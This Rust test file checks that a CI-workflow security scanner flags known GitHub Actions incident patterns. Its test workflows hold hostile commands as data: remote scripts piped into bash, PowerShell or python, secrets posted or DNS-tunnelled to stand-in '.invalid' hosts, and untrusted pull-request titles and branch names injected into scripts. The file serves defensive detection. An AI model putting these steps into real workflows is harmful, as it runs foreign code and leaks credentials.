//! Known incidents, told again in other words: another shell, another language, another order,
//! another file. Who knows the shape says the same of them.

use crate::rules_flows::shown::{CI, Files, job, may, public, steps, verdicts};

/// What is said of a change, as `rule file:line`, worst first; what is merely low is left out.
fn said(base: Files<'_>, head: Files<'_>) -> Vec<String> {
    verdicts(&public(), base, head)
        .iter()
        .filter(|it| it.severity > beholden::domain::Severity::Low)
        .map(|it| {
            let file = it.spot.path.raw().rsplit('/').next().unwrap();
            format!("{} {file}:{}", it.rule, it.spot.line)
        })
        .collect()
}

/// A new workflow and what is said of it.
#[track_caller]
fn new(what: &str, workflow: &str, expected: &[&str]) {
    assert_eq!(said(&[], &[(CI, workflow)]), expected, "{what}:\n{workflow}");
}

#[test]
fn i01_a_script_from_the_network_beside_a_secret() {
    let env = "  env: {KEY: '${{ secrets.UPLOAD_KEY }}'}";
    for (what, script, line) in [
        ("PowerShell", "- shell: pwsh\n  run: iwr https://x.invalid/i.ps1 | iex\n", 8),
        ("as root", "- run: wget -qO- https://x.invalid/i | sudo -E bash\n", 7),
        (
            "kept first",
            "- run: |\n    curl -fsSLo up https://x.invalid/up\n    chmod +x up\n    ./up\n",
            10,
        ),
        ("another language", "- run: curl -s https://x.invalid/i.py | python3 -\n", 7),
    ] {
        let says = format!("remote-script-beside-secrets ci.yml:{line}");
        new(what, &steps("push", &format!("{script}{env}")), &[&says]);
    }
}

#[test]
fn i04_i13_i14_secrets_that_are_sent_away() {
    let key = "  env: {KEY: '${{ secrets.PUBLISH_KEY }}'}";
    let all = "  env: {ALL: '${{ toJSON(secrets) }}'}";
    for (what, step, line) in [
        (
            "another language",
            format!(
                "- shell: python\n  run: |\n    import os, urllib.request as u\n    u.urlopen('https://c.invalid', data=os.environ['ALL'].encode())\n{all}"
            ),
            10,
        ),
        (
            "a name that is asked for",
            format!("- run: nslookup \"$(echo $KEY | xxd -p).c.invalid\"\n{key}"),
            7,
        ),
        (
            "PowerShell",
            format!(
                "- shell: pwsh\n  run: Invoke-RestMethod -Uri https://c.invalid -Method Post -Body $env:KEY\n{key}"
            ),
            8,
        ),
        (
            "another program",
            format!("- run: wget -q --post-data=\"k=$KEY\" https://c.invalid/\n{key}"),
            7,
        ),
        ("into the log", format!("- run: echo \"$ALL\" | base64 -w0 | rev\n{all}"), 7),
        (
            "into an artifact",
            format!(
                "- run: echo \"$ALL\" > s.json\n{all}\n- uses: actions/upload-artifact@v4\n  with: {{name: s, path: s.json}}"
            ),
            10,
        ),
    ] {
        let says = format!("secret-leaves ci.yml:{line}");
        new(what, &steps("push", &step), &[&says]);
    }
}

#[test]
fn i13_an_old_workflow_gets_one_more_step() {
    let publish = steps(
        "release",
        "- run: npm publish\n  env: {NODE_AUTH_TOKEN: '${{ secrets.NPM_TOKEN }}'}",
    );
    let step = "      - run: node -e \"fetch('https://c.invalid/' + process.env.T)\"\n        env: {T: '${{ secrets.NPM_TOKEN }}'}\n";
    let head = format!("{publish}{step}");
    assert_eq!(said(&[(CI, &publish)], &[(CI, &head)]), ["secret-leaves ci.yml:9"]);
    let copied = steps("push", "- run: echo ok\n  env: {T: '${{ secrets.NPM_TOKEN }}'}");
    let other = (".github/workflows/lint.yml", copied.as_str());
    assert_eq!(
        said(&[(CI, &publish)], &[(CI, &publish), other]),
        ["secret-gained-reader lint.yml:8"],
        "nothing is seen to send it yet"
    );
}

#[test]
fn i05_i11_texts_of_outsiders_in_a_script() {
    let pr = "pull_request_target";
    for (what, on, step, line) in [
        (
            "a branch in a program",
            pr,
            "- uses: actions/github-script@v7\n  with:\n    script: console.log('${{ github.event.pull_request.head.ref }}')",
            9,
        ),
        (
            "PowerShell",
            pr,
            "- shell: pwsh\n  run: Write-Host \"${{ github.event.pull_request.title }}\"",
            8,
        ),
        (
            "another language",
            "issues",
            "- shell: python\n  run: print('''${{ github.event.issue.title }}''')",
            8,
        ),
        (
            "through a variable of the step",
            "discussion",
            "- run: |\n    msg='${{ env.T }}'\n    echo $msg\n  env: {T: '${{ github.event.discussion.body }}'}",
            10,
        ),
        ("an output that is pasted", pr, "- run: git fetch && git merge ${{ github.head_ref }}", 7),
    ] {
        let workflow = may(&steps(on, step), "contents: write");
        let found = said(&[], &[(CI, &workflow)]);
        let says = format!("untrusted-text-executed ci.yml:{line}");
        assert!(found.contains(&says), "{what}: {found:?}\n{workflow}");
        assert!(
            found
                .iter()
                .all(|it| it.ends_with(&format!(":{line}")) || it.contains("untrusted-code")),
            "{what}: {found:?}"
        );
    }
}

#[test]
fn i05_a_cache_that_a_strangers_code_can_fill() {
    let bench = steps(
        "issue_comment",
        "- run: gh pr checkout ${{ github.event.issue.number }}\n- run: cargo bench",
    );
    let release = job(
        "release",
        "steps:\n  - uses: actions/cache@v4\n    with: {path: ~/.cargo, key: deps}\n  - run: cargo publish\n    env: {CARGO_REGISTRY_TOKEN: '${{ secrets.CRATES_TOKEN }}'}",
    );
    let publish = (".github/workflows/publish.yml", release.as_str());
    let found = said(&[publish], &[(CI, &bench), publish]);
    assert!(found.contains(&"cache-crosses-trust publish.yml:7".to_owned()), "{found:?}");
}

#[test]
fn i12_a_workflow_that_logs_in_by_itself() {
    let token = |body: &str| may(&steps("workflow_dispatch", body), "id-token: write");
    let aws = token(
        "- uses: aws-actions/configure-aws-credentials@v4\n  with: {role-to-assume: 'arn:aws:iam::111122223333:role/deploy', aws-region: eu-west-1}",
    );
    new("a role", &aws, &["oidc-trust-added ci.yml:8"]);
    let by_hand = token(
        "- run: |\n    curl -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL\"",
    );
    new("by hand", &by_hand, &["oidc-trust-added ci.yml:8"]);
}

#[test]
fn i17_code_of_others_that_its_owner_can_replace() {
    let secret = "{token: '${{ secrets.BOT_PAT }}'}";
    new(
        "an image",
        &steps("push", &format!("- uses: docker://ghcr.io/octo-org/scan:latest\n  env: {secret}")),
        &["third-party-action-receives ci.yml:7"],
    );
    let called = format!(
        "on: push\npermissions: {{}}\njobs:\n  scan:\n    uses: octo-org/flows/.github/workflows/scan.yml@v2\n    secrets: {secret}\n"
    );
    new("a workflow", &called, &["third-party-action-receives ci.yml:5"]);
    new(
        "a branch",
        &steps("push", &format!("- uses: octo-org/scan@main\n  with: {secret}")),
        &["third-party-action-receives ci.yml:7"],
    );
}

#[test]
fn i18_files_that_run_before_anybody_merges_them() {
    let head = "'${{ github.event.pull_request.head.sha }}'";
    for (what, on, bring, run, path) in [
        ("an install script", "pull_request_target", format!("- uses: actions/checkout@v4\n  with: {{ref: {head}}}"), "npm ci", "package.json"),
        ("a build script", "issue_comment", "- uses: actions/checkout@v4\n- run: gh pr checkout 1".to_owned(), "cargo test", "build.rs"),
        ("a task", "pull_request_target", format!("- uses: actions/checkout@v4\n  with: {{ref: {head}}}"), "make", "Makefile"),
        (
            "after another run",
            "{workflow_run: {workflows: [Pulls], types: [completed]}}",
            "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.workflow_run.head_sha }}'}".to_owned(),
            "pip install .",
            "setup.py",
        ),
    ] {
        let body = format!("{bring}\n- run: {run}\n  env: {{K: '${{{{ secrets.KEY }}}}'}}");
        let ci = steps(on, &body);
        let pulls = (".github/workflows/pulls.yml", "name: Pulls\non: pull_request\npermissions: {}\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: 'true'}]}}\n");
        let base = [(CI, ci.as_str()), pulls, (path, "{}\n")];
        let after = [(CI, ci.as_str()), pulls, (path, "{\"a\": 1}\n")];
        assert_eq!(said(&base, &after), [format!("exposed-file-changed {path}:1")], "{what}\n{ci}");
    }
}
